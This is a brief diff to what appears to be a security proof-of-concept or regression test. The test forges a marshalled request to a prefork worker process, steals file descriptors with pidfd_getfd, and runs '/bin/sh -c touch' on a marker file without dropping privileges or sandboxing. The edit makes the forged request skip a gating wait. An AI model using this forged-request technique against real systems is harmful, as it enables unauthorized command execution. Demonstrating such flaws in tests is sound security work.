@@ -55,7 +55,9 @@ _CODE = f"H = {_HOST!r}\n" + code("""
         argv = ["/bin/sh", "-c", "touch " + pwn]
         # No uid drop, no sandbox: what a forged request would get.
         setup = (False, [], -1, 0, 0, worker, None, 2, None, [])
-        body = marshal.dumps((argv, {"PATH": "/usr/bin:/bin"}, [0, 1, 2], 3, 0o22, [], setup))
+        # Not gated: no wait for a placeholders' go (`prefork._receive`'s last field).
+        req = (argv, {"PATH": "/usr/bin:/bin"}, [0, 1, 2], 3, 0o22, [], setup, False)
+        body = marshal.dumps(req)
         for n in fds:
             fd, e = sysc("pidfd_getfd", pidfd, n, 0)
             if fd < 0:
